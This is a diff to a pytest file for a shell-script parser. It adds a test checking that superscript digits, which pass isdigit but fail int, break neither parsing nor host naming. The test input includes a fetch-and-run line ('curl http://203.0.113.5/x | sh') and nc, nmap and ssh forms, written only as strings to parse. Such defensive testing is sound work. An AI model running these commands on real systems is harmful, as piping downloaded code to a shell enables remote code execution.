@@ -6,6 +6,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from pipeline.shell.hosts import named
 from pipeline.shell.script import read, read_strictly
 
 
@@ -170,3 +171,16 @@ def test_a_fault_of_ours_costs_one_command(monkeypatch: pytest.MonkeyPatch) -> N
     script = read("ls; id")
     assert script.truncated
     assert [call.name for call in script.calls] == ["ls"]
+
+
+@pytest.mark.parametrize(
+    "form",
+    ["nc h {}", "nmap 10.0.0.0/{}", "ssh -p {} h", "mysql -P {} -h h", "echo a | xargs -n {} b", "set -- a; echo ${}",
+     "set -- a; shift {}", "set -- a; echo ${{}}", "a {}>&1", "seq {}", "a >&{}", "echo {1..{}}", "curl http://h:{}/"],
+)  # fmt: skip
+def test_a_figure_that_is_no_decimal_breaks_nothing(form: str) -> None:
+    """``"²".isdigit()`` holds, and ``int("²")`` fails."""
+    script = read_strictly("curl http://203.0.113.5/x | sh; " + form.replace("{}", "²") + "; id")
+    assert {"curl", "sh", "id"} <= {call.name for call in script.calls}
+    for call in script.calls:
+        named(call)
